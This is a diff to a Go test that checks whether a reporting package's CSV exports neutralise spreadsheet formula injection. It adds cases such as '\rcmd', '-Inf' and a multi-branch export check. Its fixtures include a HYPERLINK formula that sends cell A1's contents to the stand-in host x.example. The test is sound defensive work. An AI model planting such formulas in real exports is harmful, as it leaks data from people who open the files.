@@ -17,18 +17,25 @@ func TestCSVNamesAreNotFormulas(t *testing.T) {
 		Branch:   `=HYPERLINK("http://x.example/?"&A1,"总行")`,
 		Services: []reports.ServiceStats{{Code: "+1", Name: "对公业务", Count: 3}},
 		Windows:  []reports.WindowStats{{Number: 2, Name: "@SUM(1+1)"}},
-		Staff:    []reports.StaffStats{{Number: "-15", Name: "-2+3"}, {Number: "007", Name: "\tcmd"}},
+		Staff: []reports.StaffStats{{Number: "-15", Name: "-2+3"}, {Number: "007", Name: "\tcmd"},
+			{Number: "-1.5", Name: "\rcmd"}, {Number: "-Inf", Name: "-0x1p3"}},
 	}
 	cells := csvCells(t)(reports.CSV(r))
-	for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"总行")`, "'+1", "对公业务", "'@SUM(1+1)", "-15", "'-2+3", "'\tcmd", "007"} {
+	for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"总行")`, "'+1", "对公业务", "'@SUM(1+1)", "-15", "'-2+3", "'\tcmd", "007",
+		"-1.5", "'\rcmd", "'-Inf", "'-0x1p3"} {
 		if !cells[want] {
 			t.Errorf("no cell %q in the report CSV", want)
 		}
 	}
-	for _, bad := range []string{r.Branch, "+1", "@SUM(1+1)", "-2+3", "\tcmd"} {
+	for _, bad := range []string{r.Branch, "+1", "@SUM(1+1)", "-2+3", "\tcmd", "\rcmd", "-Inf", "-0x1p3"} {
 		if cells[bad] {
 			t.Errorf("the report CSV has the cell %q as typed: a spreadsheet runs it", bad)
 		}
+	}
+	b := reports.BranchesReport{Branches: []reports.BranchRow{{Code: "BJ001", Name: "=1+2", Zone: "Asia/Shanghai"}}}
+	cells = csvCells(t)(reports.BranchesCSV(b))
+	if !cells["'=1+2"] || cells["=1+2"] || !cells["BJ001"] {
+		t.Errorf("the several-branch CSV's names are not made text: %v", cells)
 	}
 	h := reports.Health{Branch: "=1+1", Services: []reports.HealthRow{{Code: "A", Name: "@cmd"}}}
 	cells = csvCells(t)(reports.HealthCSV(h))
